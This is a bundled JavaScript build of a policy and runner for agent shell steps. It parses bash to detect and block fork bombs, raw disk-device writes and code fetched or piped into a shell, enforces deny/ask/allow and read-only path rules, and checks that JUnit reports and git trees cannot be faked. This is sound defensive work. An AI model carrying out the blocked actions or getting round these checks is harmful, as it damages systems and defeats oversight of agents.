            return;
        const first = directCommand(pipeline.type === 'pipeline' ? (pipeline.namedChild(0) ?? pipeline) : pipeline);
        const occs = first ? (this.byNode.get(first.id) ?? []) : [];
        const eff = occs[0]?.levels.at(-1);
        if (!eff || !isShell(eff.name) || !runsStdinAsCode(eff))
            return;
        const producer = node.parent?.childForFieldName('body');
        const prodOcc = producer ? this.byNode.get(producer.id)?.[0] : undefined;
        if (prodOcc?.levels.at(-1)?.name !== 'cat')
            return;
        const text = redirectText(node);
        if (text !== undefined)
            this.nestedCode(text, `cat <<… | ${eff.name}`, ctx);
    }
    /** What `echo …`, `printf …` or `cat <<EOF` writes to stdout, when it is known. */
    printedText(producer) {
        const occ = this.byNode.get(producer.id)?.[0];
        const eff = occ?.levels.at(-1);
        if (!eff)
            return undefined;
        const args = eff.words.slice(1);
        if (args.some((w) => w.dynamic))
            return undefined;
        if (eff.name === 'echo') {
            let k = 0;
            while (k < args.length && /^-[neE]+$/.test(args[k].value))
                k++;
            return args
                .slice(k)
                .map((w) => w.value)
                .join(' ');
        }
        if (eff.name === 'printf')
            return args.map((w) => w.value.replace(/\\n/g, '\n')).join(' ');
        if (eff.name === 'cat' && producer.parent?.type === 'redirected_statement') {
            for (const r of producer.parent.childrenForFieldName('redirect')) {
                const text = r ? redirectText(r) : undefined;
                if (text !== undefined)
                    return text;
            }
        }
        return undefined;
    }
    onFunction(node) {
        const nameNode = node.childForFieldName('name');
        const body = node.childForFieldName('body');
        if (!nameNode || !body)
            return;
        const name = wordOf(nameNode).value;
        this.functions.add(name);
        for (const cmd of body.descendantsOfType('command')) {
            if (!cmd)
                continue;
            const callsItself = (this.byNode.get(cmd.id) ?? []).some((o) => o.levels.some((l) => l.name === name));
            if (!callsItself)
                continue;
            for (let a = cmd; a && a.id !== node.id; a = a.parent) {
                if (a.type === 'pipeline' || a.nextSibling?.type === '&') {
                    this.findings.push({
                        rule: 'fork-bomb',
                        reason: `the function ${name} starts copies of itself ${a.type === 'pipeline' ? 'in a pipeline' : 'in the background'}, multiplying processes until the system runs out (a fork bomb)`
                    });
                    return;
                }
            }
        }
    }
    onFileRedirect(node) {
        const op = node.children.find((c) => c && !c.isNamed && /[>]/.test(c.type));
        if (!op)
            return;
        for (const dest of node.childrenForFieldName('destination')) {
            if (!dest)
                continue;
            const word = wordOf(dest);
            const target = word.value;
            // `>&2` duplicates a descriptor; it writes no file.
            if (!word.dynamic && !/&$/.test(op.type) && !/^\d+$/.test(target))
                this.writes.push({ path: target, dir: this.dirFromStart, how: `\`${op.type} ${target}\`` });
            if (isDevice(target)) {
                this.findings.push({
                    rule: 'disk-write',
                    reason: `the redirection \`${op.type} ${target}\` writes straight to a disk or memory device, destroying its data`
                });
            }
        }
    }
    containsFetcher(node, excludeSelf) {
        return this.fetchers(node, excludeSelf).length > 0;
    }
    fetcherNames(node, excludeSelf) {
        return [...new Set(this.fetchers(node, excludeSelf))].join(', ');
    }
    fetchers(node, excludeSelf) {
        const cmds = node.descendantsOfType('command');
        const out = [];
        for (const c of cmds) {
            if (!c || (excludeSelf && c.id === node.id))
                continue;
            for (const occ of this.byNode.get(c.id) ?? []) {
                for (const l of occ.levels)
                    if (isFetcher(l))
                        out.push(l.name);
            }
        }
        return out;
    }
    stageWords(stage) {
        const cmd = directCommand(stage) ?? stage.descendantsOfType('command')[0];
        const occ = cmd ? this.byNode.get(cmd.id)?.[0] : undefined;
        return occ?.levels[0].words ?? [];
    }
}
/** The command node of a pipeline stage (`cmd`, `cmd > f`, `! cmd`), if it is a simple command. */
function directCommand(node) {
    switch (node.type) {
        case 'command':
            return node;
        case 'redirected_statement': {
            const body = node.childForFieldName('body');
            return body ? directCommand(body) : undefined;
        }
        case 'negated_command': {
            const inner = node.namedChildren.find((c) => c?.type !== 'comment');
            return inner ? directCommand(inner) : undefined;
        }
    }
    return undefined;
}
/** Text of a heredoc body or here-string. */
function redirectText(r) {
    if (r.type === 'herestring_redirect') {
        const w = r.namedChildren.find((c) => c && c.type !== 'file_descriptor');
        return w ? wordOf(w).value : undefined;
    }
    if (r.type === 'heredoc_redirect') {
        return r.namedChildren.find((c) => c?.type === 'heredoc_body')?.text;
    }
    return undefined;
}
/** A message for the first syntax error in the tree, or undefined. */
function analyze_syntaxError(root) {
    if (!root.hasError)
        return undefined;
    const stack = [root];
    while (stack.length) {
        const n = stack.shift();
        if (n.isError || n.isMissing) {
            const { row, column } = n.startPosition;
            const what = n.isMissing
                ? `missing ${JSON.stringify(n.type)}`
                : `unexpected ${JSON.stringify(clip(n.text))}`;
            return `${what} at line ${row + 1}, column ${column + 1}`;
        }
        for (const c of n.children)
            if (c && (c.hasError || c.isMissing))
                stack.push(c);
    }
    return 'it could not be parsed';
}
function clip(s) {
    const one = s.replace(/\s+/g, ' ');
    return one.length > 30 ? one.slice(0, 29) + '…' : one;
}

// EXTERNAL MODULE: external "node:module"
var external_node_module_ = __webpack_require__(98995);
// EXTERNAL MODULE: ./node_modules/web-tree-sitter/tree-sitter.js
var tree_sitter = __webpack_require__(30254);
;// CONCATENATED MODULE: ./src/policy/bash-parser.ts
// Loads tree-sitter and its bash grammar once per process. The wasm files sit in node_modules
// when running from source and in dist/wasm/ when running from the ncc bundle.




const PACKAGE_OF = {
    'tree-sitter.wasm': 'web-tree-sitter',
    'tree-sitter-bash.wasm': 'tree-sitter-bash'
};
/** Absolute path of one of the two wasm files, or an error naming every place tried. */
function locateWasm(file) {
    const tried = [];
    for (const rel of [`./wasm/${file}`, `../wasm/${file}`]) {
        const p = fileURLToPath(new URL(rel, import.meta.url));
        if (existsSync(p))
            return p;
        tried.push(p);
    }
    try {
        return createRequire(import.meta.url).resolve(`${PACKAGE_OF[file]}/${file}`);
    }
    catch {
        tried.push(`${PACKAGE_OF[file]}/${file} (node resolution)`);
    }
    throw new Error(`cannot find ${file}; tried ${tried.join(', ')}`);
}
let loading;
/** The bash Language, loaded once; later calls share the same promise. */
function loadBash() {
    loading ??= (async () => {
        await Parser.init({ locateFile: (f) => locateWasm(f) });
        return Language.load(locateWasm('tree-sitter-bash.wasm'));
    })();
    loading.catch(() => (loading = undefined));
    return loading;
}
async function bash_parser_createBashParser() {
    const language = await loadBash();
    const parser = new Parser();
    parser.setLanguage(language);
    return parser;
}

// EXTERNAL MODULE: ./src/lib/paths.ts
var paths = __webpack_require__(9927);
;// CONCATENATED MODULE: ./src/policy/permissions.ts
// MassGen 2026 permission rules applied to a scripted run. As in MassGen: deny wins, then an
// allow lifts an ask. Unlike MassGen, a command rule is matched against every simple command of
// the parsed command (and the raw text), like the block-list: `cd repo && git push --force`
// meets `command(git push --force*)`. A scripted run has no one to approve an `ask`, so an ask
// without a matching allow blocks. Nothing here lets a command through that a rule or list blocked.



/** fnmatch.fnmatchcase: `*` any text (also `/`), `?` one character, `[…]`/`[!…]` a set. */
function globToRegExp(glob) {
    let re = '';
    for (let i = 0; i < glob.length; i++) {
        const c = glob[i];
        if (c === '*') {
            re += '[\\s\\S]*';
            while (glob[i + 1] === '*')
                i++;
        }
        else if (c === '?') {
            re += '[\\s\\S]';
        }
        else if (c === '[') {
            let j = i + 1;
            if (glob[j] === '!')
                j++;
            if (glob[j] === ']')
                j++;
            while (j < glob.length && glob[j] !== ']')
                j++;
            if (j >= glob.length) {
                re += '\\[';
                continue;
            }
            let body = glob.slice(i + 1, j);
            const negate = body.startsWith('!');
            if (negate)
                body = body.slice(1);
            body = body.replace(/\\/g, '\\\\').replace(/\]/g, '\\]').replace(/\^/g, '\\^');
            re += negate ? `[^${body}]` : `[${body}]`;
            i = j;
        }
        else {
            re += c.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&');
        }
    }
    return new RegExp(`^(?:${re})$`, 'u');
}
function describeRule(r) {
    return r.origin ? `${r.source} (${r.origin})` : r.source;
}
class permissions_PermissionRules {
    deny;
    ask;
    allow;
    constructor(rules = []) {
        const compile = (d) => rules
            .filter((r) => r.decision === d)
            .map((rule) => ({ rule, re: globToRegExp(rule.pattern) }));
        this.deny = compile('deny');
        this.ask = compile('ask');
        this.allow = compile('allow');
    }
    get empty() {
        return this.deny.length + this.ask.length + this.allow.length === 0;
    }
    /** The verdict of the rules for a parsed command, or undefined when they have nothing to say. */
    checkCommand(raw, analysis) {
        if (this.empty)
            return undefined;
        // Each unit is one thing the rules may name: the raw command, or one simple command.
        const units = [
            { shown: raw.trim(), texts: [...new Set([raw, raw.trim()])] }
        ];
        for (const occ of analysis.occurrences) {
            const texts = spellings(occ, false);
            units.push({ shown: texts[0] ?? '', texts });
        }
        return this.decide('command', units);
    }
    /** The verdict for a file step (`path` absolute; also matched relative to the workspace). */
    checkFile(kind, path, workspace) {
        if (this.empty)
            return undefined;
        const rel = relative(workspace, path) || '.';
        const texts = [path, rel, ...(isInside(path, workspace) ? [`./${rel}`] : [])];
        return this.decide(kind, [{ shown: path, texts }]);
    }
    decide(action, units) {
        const hit = (list, texts) => list.find((c) => (c.rule.action === action || c.rule.action === '*') && texts.some((t) => c.re.test(t)));
        for (const u of units) {
            const d = hit(this.deny, u.texts);
            if (d) {
                return {
                    verdict: 'block',
                    rule: 'permissions-deny',
                    reason: `${what(action, u.shown)} matches the permissions deny rule ${describeRule(d.rule)}`
                };
            }
        }
        for (const u of units) {
            const a = hit(this.ask, u.texts);
            if (a && !hit(this.allow, u.texts)) {
                return {
                    verdict: 'block',
                    rule: 'permissions-ask',
                    reason: `${what(action, u.shown)} matches the permissions ask rule ${describeRule(a.rule)}: it needs approval, and a scripted run has no one to give it (an allow rule that matches lets it run)`
                };
            }
        }
        return undefined;
    }
}
function what(action, shown) {
    const s = shown.length > 80 ? shown.slice(0, 79) + '…' : shown;
    return action === 'command' ? `\`${s}\`` : `${action} ${s}`;
}

;// CONCATENATED MODULE: ./src/config/paths.ts
// The roots of an agent's plan and how to compare paths, as pure functions of the plan (no file
// system): the policy uses them lexically (read-only-path), runtime/allowed-paths.ts after
// resolving symlinks.


/** The agent's roots, each with its access; a deeper root decides over a shallower one. */
function paths_allowedRoots(agent) {
    const roots = [
        { path: resolve(agent.workspace), writable: true, what: 'workspace' }
    ];
    for (const c of agent.contextPaths) {
        roots.push({ path: resolve(c.path), writable: c.permission === 'write', what: 'context path' });
        for (const p of c.protectedPaths)
            roots.push({ path: resolve(p), writable: false, what: 'protected path' });
    }
    if (agent.tempWorkspace)
        roots.push({ path: resolve(agent.tempWorkspace), writable: false, what: 'temporary workspace' });
    return roots;
}
/** The root that decides for `path` (the deepest containing it), compared as written. */
function paths_decidingRootOf(roots, path) {
    let best;
    for (const root of roots)
        if (isInside(path, root.path) && (!best || root.path.length > best.path.length))
            best = root;
    return best;
}

;// CONCATENATED MODULE: ./src/policy/read-only.ts
// Rule read-only-path: for agents without a sandbox (local mode), a statically visible write into
// a read-only root — a `read` context path, a protected path, the temporary workspace — is
// refused before it runs, as MassGen's path-permission layer refuses it. Docker agents rely on the
// read-only mount instead (the kernel refuses, whatever the command's shape).


/** Where a write lands, or undefined when that depends on something only known at run time. */
function resolveWrite(w, stepCwd) {
    if (w.path.startsWith('~') || w.dir === null)
        return undefined;
    const dir = isAbsolute(w.dir) ? w.dir : join(stepCwd, w.dir);
    const path = normalize(isAbsolute(w.path) ? w.path : join(dir, w.path));
    return path.length > 1 ? path.replace(/\/+$/, '') : path;
}
function read_only_readOnlyVerdict(writes, roots, stepCwd) {
    for (const w of writes) {
        const target = resolveWrite(w, stepCwd);
        if (target === undefined)
            continue;
        const root = decidingRootOf(roots, target);
        if (root && !root.writable)
            return {
                verdict: 'block',
                rule: 'read-only-path',
                reason: `${w.how} writes ${target}, inside the read-only ${root.what} ${root.path}`
            };
    }
    return undefined;
}

// EXTERNAL MODULE: ./src/lib/python-regex.ts
var python_regex = __webpack_require__(69227);
;// CONCATENATED MODULE: ./src/policy/index.ts








/** Commands longer than this are blocked unparsed (a shell step is not a program listing). */
const MAX_COMMAND_CHARS = 100_000;
async function policy_createPolicy(cfg) {
    const parser = await createBashParser();
    const ruleOpts = { enableSudo: cfg.enableSudo };
    const permissions = new PermissionRules(cfg.permissions);
    return {
        checkFile(kind, path, workspace) {
            return permissions.checkFile(kind, path, workspace) ?? { verdict: 'allow' };
        },
        check(command, ctx = {}) {
            if (command.length > MAX_COMMAND_CHARS) {
                return {
                    verdict: 'block',
                    rule: 'syntax',
                    reason: `the command is ${command.length} characters long; the limit is ${MAX_COMMAND_CHARS}`
                };
            }
            const tree = parser.parse(command);
            if (!tree)
                return { verdict: 'block', rule: 'syntax', reason: 'the command could not be parsed' };
            try {
                const err = syntaxError(tree.rootNode);
                if (err)
                    return { verdict: 'block', rule: 'syntax', reason: `not valid shell syntax: ${err}` };
                const analysis = new Analyzer(parser, ruleOpts).analyze(tree.rootNode);
                const findings = analysis.findings.filter((f) => !(f.rule === 'undecidable' && cfg.undecidable === 'allow'));
                if (findings.length > 0) {
                    const first = findings.reduce((a, b) => RULE_ORDER.indexOf(b.rule) < RULE_ORDER.indexOf(a.rule) ? b : a);
                    return { verdict: 'block', rule: first.rule, reason: first.reason };
                }
                const roots = cfg.readOnlyRoots;
                return ((roots && ctx.cwd ? readOnlyVerdict(analysis.writes, roots, ctx.cwd) : undefined) ??
                    checkLists(analysis, cfg.allowed, cfg.blocked) ??
                    permissions.checkCommand(command, analysis) ?? { verdict: 'allow' });
            }
            finally {
                tree.delete();
            }
        }
    };
}

// EXTERNAL MODULE: external "node:fs/promises"
var promises_ = __webpack_require__(51455);
;// CONCATENATED MODULE: ./src/report/command-log.ts
// <out>/<agent>/commands.log: every step with its (capped, redacted) output, appended as steps end.


function formatStepLog(s) {
    const title = s.name ? `${s.name} ` : '';
    const head = `=== [${s.index + 1}] ${title}(${s.kind}) ${s.status}` +
        (s.exitCode !== null ? `, exit ${s.exitCode}` : '') +
        `, ${s.durationMs} ms` +
        (s.truncated ? ', output truncated' : '') +
        (s.reason ? `\n# ${s.reason}` : '');
    const parts = [head, `$ ${s.command}`];
    if (s.stdout)
        parts.push('--- stdout', s.stdout.replace(/\n$/, ''));
    if (s.stderr)
        parts.push('--- stderr', s.stderr.replace(/\n$/, ''));
    return parts.join('\n') + '\n\n';
}
async function command_log_appendStepLog(outDir, agentId, s) {
    const dir = join(outDir, agentId);
    await mkdir(dir, { recursive: true });
    await appendFile(join(dir, 'commands.log'), formatStepLog(s));
}

// EXTERNAL MODULE: ./src/report/redact.ts
var redact = __webpack_require__(20649);
;// CONCATENATED MODULE: ./src/runtime/allowed-paths.ts
// Where an agent may work, in every mode: its workspace (writable), its context paths (by
// permission, protected paths read-only), the orchestrator's temporary workspace (read-only). The
// one rule for work_dir, write_file, read_file and junit paths. Paths are checked after resolving
// symlinks, so a link planted in the workspace cannot lead a step out. Docker mounts are path-
// transparent (the same absolute path inside), so a host-side check is a check of the container
// path too, and the error is the same in every mode.





/** The root that decides for a real path, the roots compared by their real paths too. */
async function decidingRoot(agent, real) {
    const roots = await Promise.all(allowedRoots(agent).map(async (r) => ({
        ...r,
        path: await realpath(r.path).catch(() => r.path)
    })));
    return decidingRootOf(roots, real);
}
const ROOTS_TEXT = "the agent's allowed paths (workspace, context paths, temporary workspace)";
/**
 * Resolves a step's work_dir: absolute, an existing directory, inside an allowed root after
 * symlinks are resolved. Returns the path as given (containers see the same path).
 */
async function allowed_paths_resolveWorkDir(agent, dir) {
    if (!isAbsolute(dir))
        throw new PathError(`work_dir ${dir} is not an absolute path`);
    let real;
    try {
        real = await realpath(dir);
    }
    catch {
        throw new PathError(`work_dir ${dir} does not exist`);
    }
    if (!(await stat(real)).isDirectory())
        throw new PathError(`work_dir ${dir} is not a directory`);
    if (!(await decidingRoot(agent, real)))
        throw new PathError(`work_dir ${dir}${real !== dir ? ` (resolves to ${real})` : ''} is outside ${ROOTS_TEXT}`);
    return dir;
}
/**
 * Checks a file a step reads or writes. Reads: the file's real path must be inside a root. Writes:
 * the real path of what would be written (the existing file, through any symlink, or the deepest
 * existing parent plus the new names) must be inside a writable root, and not inside a read-only
 * one below it. A symlink that points nowhere is refused (writing through it would create its
 * target wherever it points).
 */
async function allowed_paths_checkFileAccess(agent, path, access) {
    const verb = access === 'read' ? 'read_file' : 'write_file';
    if (!isAbsolute(path))
        throw new PathError(`${verb} ${path} is not an absolute path`);
    const real = await realTarget(path, verb);
    const root = await decidingRoot(agent, real);
    const shown = real !== path ? `${path} (resolves to ${real})` : path;
    if (!root)
        throw new PathError(`${verb} ${shown} is outside ${ROOTS_TEXT}`);
    if (access === 'write' && !root.writable)
        throw new PathError(`${verb} ${shown} is in a read-only ${root.what} (${root.path})`);
}
/** Where a path really leads: its realpath if it exists, else the real parent plus the rest. */
async function realTarget(path, verb) {
    const existing = await lstat(path).catch(() => undefined);
    if (existing) {
        try {
            return await realpath(path);
        }
        catch {
            throw new PathError(`${verb} ${path} is a symbolic link that points nowhere`);
        }
    }
    const parent = dirname(path);
    if (parent === path)
        return path;
    return join(await realTarget(parent, verb), basename(path));
}

// EXTERNAL MODULE: ./src/report/junit.ts
var junit = __webpack_require__(42998);
;// CONCATENATED MODULE: ./src/run/attempts.ts
// Running a step whose tests we must be able to believe: its JUnit report is removed before each
// run and must be written during it, the report and the exit code must agree, at least one test
// must run; a failing step is re-run up to `retries` times, and tests that flip are "flaky".



async function attempts_runAttempts(o) {
    const runs = [];
    for (let i = 0; i <= o.retries; i++) {
        const c = await runChecked(o);
        runs.push(c);
        await o.afterAttempt?.(i);
        // Only test failures are worth another run; a report we cannot believe stays unbelievable.
        if (o.stopped?.())
            break;
        if (o.exactly ? c.problem !== undefined : c.result.status !== 'failed' || c.problem)
            break;
    }
    return combine(runs, o.retries);
}
async function runChecked(o) {
    const report = o.place.report;
    if (report) {
        try {
            // Nothing there, nothing to remove (an exec saved): a process that writes it from now on
            // could as well write it during the step.
            if (await present(report)) {
                await o.ops.removeFile(report);
                if (await present(report))
                    throw new Error(`${report} is still there`);
            }
        }
        catch (e) {
            const reason = `cannot remove the previous JUnit report: ${e.message}`;
            return { result: { ...o.base, status: 'error', reason }, cases: [], problem: reason };
        }
    }
    const r = await o.exec(o.place);
    if (!report)
        return { result: r, cases: [], problem: problemOf(r) };
    if (!ran(r))
        return { result: r, cases: [], problem: problemOf(r) };
    return crossCheck(r, await readJunitReport(report, o.workspace), o.reportLabel ?? report);
}
async function present(path) {
    return lstat(path).then(() => true, (e) => {
        if (e.code === 'ENOENT')
            return false;
        throw e;
    });
}
/** The command ran (so it may have written a report). */
const ran = (r) => ['passed', 'failed', 'timeout', 'oom'].includes(r.status);
function problemOf(r) {
    if (r.status === 'passed' || r.status === 'failed')
        return undefined;
    return `${r.status}${r.reason ? `: ${r.reason}` : ''}`;
}
/** Applies the report rules to a run that ended (passed or failed by its exit code, or killed). */
function crossCheck(r, rep, label) {
    const junit = rep.summary;
    if (r.status !== 'passed' && r.status !== 'failed') {
        // Timed out or killed: the status says it all; a report it managed to write is kept.
        return { result: rep.missing ? r : { ...r, junit }, cases: [], problem: problemOf(r) };
    }
    const fail = (status, reason) => ({
        result: { ...r, status, reason, junit },
        cases: rep.cases,
        problem: reason
    });
    if (rep.missing)
        return fail('error', `no fresh JUnit report: ${label} was not written by the step`);
    if (junit.error)
        return fail('error', `JUnit report ${label} unusable: ${junit.error}`);
    const ran = junit.tests - junit.skipped;
    if (ran <= 0) {
        return fail('failed', `no tests ran: ${label} has ${junit.tests ? `${junit.tests} tests, all skipped` : 'no tests'}`);
    }
    const failing = junit.failures + junit.errors;
    const code = r.exitCode === null ? 'no exit code (killed by a signal)' : `exit ${r.exitCode}`;
    if (r.exitCode === 0 && failing > 0) {
        return fail('failed', `exit code and JUnit disagree: exit 0, but ${label} has ${failing} failing test(s)`);
    }
    if (r.exitCode !== 0 && failing === 0) {
        return fail('failed', `exit code and JUnit disagree: ${code}, but ${label} says all ${ran} test(s) passed`);
    }
    return { result: { ...r, junit }, cases: rep.cases };
}
function combine(runs, retries) {
    const last = { ...runs[runs.length - 1], runs: runs.map((c) => c.cases) };
    if (runs.length === 1)
        return last;
    const attempts = runs.map(({ result: a }) => ({
        status: a.status,
        exitCode: a.exitCode,
        durationMs: a.durationMs,
        ...(a.reason ? { reason: a.reason } : {})
    }));
    const result = {
        ...last.result,
        durationMs: attempts.reduce((sum, a) => sum + a.durationMs, 0),
        attempts
    };
    const flaky = flakyTests(runs.map((c) => c.cases));
    if (flaky.length)
        result.flaky = flaky;
    if (result.status === 'passed' && !result.reason) {
        result.reason =
            `passed on attempt ${runs.length} of ${retries + 1}` + (flaky.length ? ' (flaky)' : '');
    }
    return { ...last, result };
}

// EXTERNAL MODULE: ./node_modules/@actions/exec/lib/exec.js + 2 modules
var lib_exec = __webpack_require__(75260);
// EXTERNAL MODULE: external "node:stream/promises"
var external_node_stream_promises_ = __webpack_require__(46466);
// EXTERNAL MODULE: ./node_modules/tar-stream/index.js
var tar_stream = __webpack_require__(56118);
;// CONCATENATED MODULE: ./src/run/compare/trees.ts
// The two trees of a compare step, packed on the host into one tar file: the head tree (the work
// tree as on disk: tracked and untracked, not ignored) and the base tree (the base revision with
// every test file replaced by the head's, new ones added, deleted ones removed). The tar is
// unpacked inside the agent's sandbox, as the agent's user (see workspace-ops.ts).
//
// The repository may be one the agent wrote (its workspace), so git is used only for plumbing
// that reads objects, the index and the work tree. With fsmonitor off, none of it runs a program
// the repository's config names (no hooks, filters, textconv, pager): that is why reading such a
// repository is safe here, and why safe.directory may be waived. Blobs are taken raw (cat-file),
// never through smudge filters.










const SAFE_CONFIG = (/* unused pure expression or super */ null && ([
    '-c',
    'core.fsmonitor=false',
    '-c',
    'core.hooksPath=/dev/null',
    '-c',
    'safe.directory=*',
    '-c',
    'core.attributesFile=/dev/null',
    '-c',
    'core.useReplaceRefs=false'
]));
/** No system config, no replace refs (an agent-written refs/replace/ could swap the base tree). */
const SAFE_ENV = {
    GIT_OPTIONAL_LOCKS: '0',
    GIT_TERMINAL_PROMPT: '0',
    GIT_CONFIG_NOSYSTEM: '1',
    GIT_NO_REPLACE_OBJECTS: '1',
    GIT_ATTR_NOSYSTEM: '1'
};
/** git on the host, through @actions/exec, with none of the host's GIT_* variables. */
function trees_hostGit() {
    return {
        async run(args, opts) {
            const env = { ...SAFE_ENV };
            for (const [k, v] of Object.entries(process.env)) {
                if (v !== undefined && !k.startsWith('GIT_'))
                    env[k] = v;
            }
            const chunks = [];
            let stderr = '';
            try {
                const code = await exec.exec('git', [...SAFE_CONFIG, ...args], {
                    cwd: opts.cwd,
                    env: { ...env, ...opts.env },
                    input: opts.input,
                    silent: true,
                    ignoreReturnCode: true,
                    listeners: {
                        stdout: (d) => void chunks.push(d),
                        stderr: (d) => void (stderr += d.toString())
                    }
                });
                return { code, stdout: Buffer.concat(chunks), stderr };
            }
            catch (e) {
                throw new CompareError(`cannot run git: ${e.message}`);
            }
        }
    };
}
async function must(git, what, args, cwd, extra = {}) {
    const r = await git.run(args, { cwd, ...extra });
    if (r.code !== 0) {
        throw new CompareError(`cannot ${what}: ${r.stderr.trim().split('\n').pop() || `git exit ${r.code}`}`);
    }
    return r.stdout;
}
const split0 = (b) => b.toString('utf8').split('\0').filter(Boolean);
async function trees_workTree(git, repo) {
    const r = await git.run(['rev-parse', '--show-toplevel'], { cwd: repo });
    if (r.code !== 0)
        throw new CompareError(`${repo} is not inside a git work tree`);
    const top = await realpath(r.stdout.toString('utf8').trim());
    const head = (await must(git, 'resolve HEAD', ['rev-parse', '--verify', 'HEAD^{commit}'], top))
        .toString()
        .trim();
    return { top, head };
}
/** The commit a revision names; a clear error (with a hint for shallow clones) when none. */
async function trees_resolveRevision(git, top, rev) {
    if (!rev.trim() || rev.startsWith('-')) {
        throw new CompareError(`base revision ${JSON.stringify(rev)} is not a revision`);
    }
    const r = await git.run(['rev-parse', '--verify', '--quiet', '--end-of-options', `${rev}^{commit}`], {
        cwd: top
    });
    if (r.code === 0)
        return r.stdout.toString().trim();
    const shallow = await git.run(['rev-parse', '--is-shallow-repository'], { cwd: top });
    const hint = shallow.stdout.toString().trim() === 'true'
        ? ' (the clone is shallow: fetch the base revision, e.g. actions/checkout with fetch-depth: 0)'
        : '';
    throw new CompareError(`base revision ${JSON.stringify(rev)} not found in ${top}${hint}`);
}
/** compare.tests → git pathspecs: globs, "!pattern" excludes, explicit magic kept. */
function trees_pathspecs(patterns) {
    return patterns
        .map((p) => p.trim())
        .filter(Boolean)
        .map((p) => p.startsWith(':') ? p : p.startsWith('!') ? `:(exclude,glob)${p.slice(1)}` : `:(glob)${p}`);
}
const MAX_TREE_BYTES = (/* unused pure expression or super */ null && (1024 * 1024 * 1024));
const GITLINK = '160000';
/** Writes the two trees into a new tar file `out` (which must not exist). */
async function trees_packTrees(git, spec, out) {
    const specs = trees_pathspecs(spec.tests);
    const { headPaths, headTests } = await listHead(git, spec, specs);
    const { baseEntries, baseTests } = await listBase(git, spec, specs);
    const skipped = [];
    const budget = byteBudget(spec.maxBytes ?? MAX_TREE_BYTES);
    const head = await readHead(spec.top, headPaths, budget.take, skipped);
    const { fromBase, removedTestPaths } = baseFiles(baseEntries, baseTests, headTests, head, skipped);
    const watch = spec.watch ?? (() => false);
    const watchedBase = baseEntries.filter((e) => watch(e.path) && e.mode !== GITLINK);
    const original = spec.names.original ? baseEntries.filter((e) => e.mode !== GITLINK) : [];
    const blobs = await catBlobs(git, spec.top, [...new Set([...fromBase, ...watchedBase, ...original].map((e) => e.sha))], budget.take);
    const watched = watchedContents(watchedBase, blobs, head, watch);
    const dirty = spec.headSha ? await dirtyPaths(git, spec.top, spec.headSha, head) : [];
    const testFiles = await writeTar(out, spec, { head, headTests, fromBase, original, blobs });
    return {
        headFiles: head.size,
        baseFiles: fromBase.length + testFiles,
        testFiles,
        removedTests: removedTestPaths.length,
        removedTestPaths,
        bytes: budget.used(),
        skipped,
        watched: [...watched.values()],
        dirty
    };
}
/** A running total of the bytes read, which fails past `max`. */
function byteBudget(max) {
    let bytes = 0;
    return {
        take: (n) => {
            bytes += n;
            if (bytes > max)
                throw new CompareError(`the trees are larger than ${max} bytes`);
        },
        used: () => bytes
    };
}
/** The work tree's paths (tracked and untracked, not ignored) and, among them, the test files. */
async function listHead(git, spec, specs) {
    const list = ['ls-files', '-z', '--cached', '--others', '--exclude-standard'];
    const headPaths = unique(split0(await must(git, 'list the work tree', list, spec.top))).filter((p) => !spec.exclude(p));
    const headTests = new Set(split0(await must(git, 'list the test files', [...list, '--', ...specs], spec.top)).filter((p) => !spec.exclude(p)));
    return { headPaths, headTests };
}
/** The base revision's entries and test files, read through a scratch index. */
async function listBase(git, spec, specs) {
    const { top } = spec;
    const index = await mkdtemp(join(tmpdir(), 'mgx-compare-index-'));
    try {
        const env = { env: { GIT_INDEX_FILE: join(index, 'index') } };
        await must(git, 'read the base tree', ['read-tree', spec.baseSha], top, env);
        const baseEntries = split0(await must(git, 'list the base tree', ['ls-files', '-z', '-s'], top, env))
            .map((line) => {
            const tab = line.indexOf('\t');
            const [mode, sha] = line.slice(0, tab).split(' ');
            return { mode, sha, path: line.slice(tab + 1) };
        })
            .filter((e) => !spec.exclude(e.path));
        const baseTests = new Set(split0(await must(git, 'list the base test files', ['ls-files', '-z', '--', ...specs], top, env)));
        return { baseEntries, baseTests };
    }
    finally {
        await rm(index, { recursive: true, force: true });
    }
}
/** The work tree's files and symlinks by path; special files go to `skipped`. */
async function readHead(top, paths, budget, skipped) {
    const reader = new WorkTreeReader(top);
    const head = new Map();
    for (const p of paths) {
        const e = await reader.read(p, budget);
        if (!e)
            continue;
        if (e.type === 'skip')
            skipped.push(p);
        else
            head.set(p, e);
    }
    return head;
}
/**
 * Base: its files minus its tests, minus anything in the way of a head test (a file where
 * head has a directory, or the reverse); head's tests are added when writing. Submodules go to
 * `skipped`; base tests head deleted are returned as removed.
 */
function baseFiles(baseEntries, baseTests, headTests, head, skipped) {
    const testDirs = new Set();
    for (const t of headTests)
        for (let d = posix.dirname(t); d !== '.'; d = posix.dirname(d))
            testDirs.add(d);
    const inTheWay = (p) => {
        if (testDirs.has(p))
            return true;
        for (let d = posix.dirname(p); d !== '.'; d = posix.dirname(d))
            if (headTests.has(d))
                return true;
        return false;
    };
    const removedTestPaths = [];
    const fromBase = baseEntries.filter((e) => {
        if (baseTests.has(e.path) || headTests.has(e.path)) {
            if (!headTests.has(e.path) && !head.has(e.path))
                removedTestPaths.push(e.path);
            return false;
        }
        if (e.mode === GITLINK) {
            skipped.push(e.path);
            return false;
        }
        return !inTheWay(e.path);
    });
    return { fromBase, removedTestPaths };
}
/** The watched paths' base and head contents (a head symlink as `-> target`). */
function watchedContents(watchedBase, blobs, head, watch) {
    const watched = new Map();
    for (const e of watchedBase)
        watched.set(e.path, { path: e.path, base: blobs.get(e.sha) });
    for (const [p, e] of head) {
        if (!watch(p))
            continue;
        const w = watched.get(p) ?? { path: p };
        w.head = e.type === 'file' ? e.data : Buffer.from(e.type === 'symlink' ? `-> ${e.target}` : '');
        watched.set(p, w);
    }
    return watched;
}
/** A tar stream written to a new file; each add waits for the entry or fails with the file. */
function tarFile(fd) {
    const pack = tarPack();
    const written = pipeline(pack, createWriteStream('', { fd }));
    const failed = written.then(() => new Promise(() => undefined), (e) => Promise.reject(e));
    const add = (h, data) => Promise.race([
        new Promise((res, rej) => {
            const done = (err) => (err ? rej(err) : res());
            if (data)
                pack.entry(h, data, done);
            else
                pack.entry(h, done);
        }),
        failed
    ]);
    return { pack, written, add };
}
/**
 * Writes the tar: each root with the spec's directories, head's entries, base's (and the
 * original base's) blobs, then head's tests into base. Returns how many tests it added to base.
 */
async function writeTar(out, spec, trees) {
    const { head, headTests, fromBase, original, blobs } = trees;
    const fd = await open(out, 'wx', 0o644);
    const { pack, written, add } = tarFile(fd);
